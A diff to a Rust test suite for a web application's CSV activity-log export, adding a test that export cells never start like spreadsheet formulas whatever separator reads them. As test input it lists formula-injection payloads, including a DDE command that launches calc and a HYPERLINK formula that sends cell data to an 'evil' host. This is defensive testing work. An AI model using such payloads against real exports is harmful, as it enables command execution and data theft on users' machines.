@@ -15,6 +15,7 @@ use jeton::{
     },
 };
 use serde_json::Value;
+use std::{io::Write, process::Stdio};
 
 const LOG: &str = "/orgs/croix-bleue-sahel/activity";
 
@@ -70,6 +71,17 @@ fn add(app: &TestApp, count: i64, at: Timestamp, action: Action) {
 /// The server may have closed idle connections while entries were added; the client learns of it now.
 async fn idle_connections_close() {
     actix_web::rt::time::sleep(std::time::Duration::from_millis(100)).await;
+}
+
+/// A table as Python's own reader takes it apart by this separator.
+fn read(csv: &str, separator: char) -> Vec<Vec<String>> {
+    let program = "import csv, io, json, sys; text = sys.stdin.buffer.read().decode(); \
+        print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), delimiter=sys.argv[1]))))";
+    let mut command = std::process::Command::new("python3");
+    command.args(["-c", program, &separator.to_string()]).stdin(Stdio::piped()).stdout(Stdio::piped());
+    let mut child = command.spawn().expect("Python; ./test installs it");
+    child.stdin.take().expect("its input").write_all(csv.as_bytes()).expect("a table");
+    serde_json::from_slice(&child.wait_with_output().expect("its end").stdout).expect("rows")
 }
 
 async fn export(person: &Person, ending: &str, fields: &[(&str, &str)]) -> String {
@@ -209,7 +221,7 @@ db_test! {
         add(&app, 2500, app.clock.now().plus(-9000), Action::TokenExpired);
         idle_connections_close().await;
         let csv = export(&ann, "csv", &[]).await;
-        assert!(csv.starts_with("\u{feff}\"entry\",\"time\",\"action\""));
+        assert!(csv.starts_with("\u{feff}\"entry\",\"time_utc\",\"action\""));
         assert_eq!(csv.lines().count(), 1 + 2 + 2500 + 1, "the export is in the log that it exports");
         assert!(csv.contains("\"'=cmd|' /C calc'!A0,\"\"x\"\"\""), "no cell begins like a formula");
         assert!(csv.contains("\"data.exported\",\"Ann\""));
@@ -219,6 +231,40 @@ db_test! {
         ann.get(LOG).await.shows("Ann exported activity.csv").shows("Ann exported activity.jsonl");
         let refused = ann.post(&format!("{LOG}.csv"), &[("from", "yesterday")]).await;
         assert_eq!(refused.status, 422);
+    }
+
+    async fn no_cell_of_an_export_is_a_formula_whichever_separator_it_is_read_by(db: TestDb) {
+        let (_app, ann) = TestApp::with_user(db, "Ann").await;
+        for label in [
+            "x;=HYPERLINK(\"http://evil/?\"&A1;\"click\");",
+            "x,=1+1,y",
+            "x; \"=1+1\"",
+            "=cmd|' /C calc'!A0",
+            "＝1+1；",
+            "@SUM(A1);-1,+1",
+            "x;＠A1",
+            "2026-11",
+        ] {
+            assert_eq!(ann.asks_for_token(label, "read", "45").await.status, 200, "{label}");
+        }
+        for language in ["en", "fr"] {
+            let profile = [("name", "Ann"), ("email", "ann@example.org"), ("language", language), ("time_zone", "UTC"), ("theme", "system")];
+            ann.get("/account/profile").await;
+            assert_eq!(ann.post("/account/profile", &profile).await.status, 303);
+            let csv = export(&ann, "csv", &[]).await;
+            assert!(csv.starts_with('\u{feff}') && csv.ends_with("\r\n"));
+            let own = if language == "en" { ',' } else { ';' };
+            for separator in [',', ';', '\t'] {
+                let rows = read(&csv, separator);
+                for cell in rows.iter().flatten().map(|cell| cell.trim_start_matches('\u{feff}')) {
+                    let formula = cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
+                    assert!(!formula, "{language} {separator:?}: {cell:?}");
+                }
+                assert!(separator != own || rows.iter().all(|row| row.len() == 13), "{language}: {rows:?}");
+            }
+            let month = read(&csv, own).into_iter().flatten().find(|cell| cell.ends_with("2026-11"));
+            assert_eq!(month.as_deref(), Some("'2026-11"), "it is a label and no month");
+        }
     }
 
     async fn whoever_has_an_export_can_check_the_chain(db: TestDb) {
